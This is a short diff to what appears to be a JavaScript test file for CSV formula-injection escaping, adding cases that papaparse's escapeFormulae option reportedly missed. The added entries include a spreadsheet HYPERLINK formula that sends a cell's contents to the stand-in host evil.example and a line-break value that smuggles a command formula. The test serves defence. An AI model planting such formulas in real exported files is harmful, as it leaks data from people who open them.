@@ -16,6 +16,9 @@ const FORMULAS = [
   '\t=1+1',
   '\r=1+1',
   '=1+1',
+  // A line break after the formula: papaparse's own check (escapeFormulae: true) let these through.
+  '=HYPERLINK("https://evil.example/?"&B3,\n"Open")',
+  '+1\r\n=cmd',
 ];
 const HARMLESS = ['<script>alert(1)</script>', 'Fresh beans = better mornings', 'a@b.example', '"quoted", with comma'];
 
